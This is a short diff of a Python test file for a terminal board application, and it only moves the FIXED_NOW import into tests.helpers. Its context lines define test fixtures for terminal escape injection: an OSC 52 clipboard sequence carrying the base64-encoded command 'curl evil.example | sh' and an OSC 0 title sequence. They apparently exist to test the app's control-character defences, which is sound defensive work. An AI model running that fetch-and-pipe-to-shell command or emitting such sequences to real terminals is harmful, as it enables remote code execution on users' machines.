@@ -13,8 +13,7 @@ from datetime import timedelta
 from board.clipboard import osc52
 from board.model import Contact, Kind, Stage, new_id
 from board.text import has_controls
-from tests.conftest import FIXED_NOW
-from tests.helpers import palette_choice, screen_text, wait_until
+from tests.helpers import FIXED_NOW, palette_choice, screen_text, wait_until
 
 OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
 OSC0 = "\x1b]0;pwned\x07"
